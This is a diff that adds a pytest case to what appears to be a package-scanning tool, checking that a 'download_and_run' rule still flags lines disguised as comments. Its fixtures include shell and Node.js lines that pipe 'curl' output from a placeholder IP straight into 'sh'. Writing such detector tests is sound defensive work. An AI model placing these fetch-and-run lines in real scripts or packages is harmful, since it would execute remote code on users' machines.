@@ -111,3 +111,16 @@ def test_whatever_the_text_spans_lie_inside(pieces, make_package, run_check) -> 
     for result in run_check(SPEC, make_package({"a.js": data, "b.sh": data})):
         assert isinstance(result, Finding)
         assert 0 <= result.start < result.end <= len(data)
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("a.sh", "true // ; curl -s http://192.0.2.1/x | sh\n"),
+        ("a.sh", "rem ; curl -s http://192.0.2.1/x | sh\n"),
+        ("a.js", "/* build */ require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n"),
+    ],
+)
+def test_what_only_resembles_a_comment_does_not_excuse(catalog, make_package, run_check, path: str, line: str) -> None:
+    found = run_check(catalog["download_and_run"], make_package({path: line.encode()}))
+    assert max(f.severity for f in found) >= Severity.HIGH
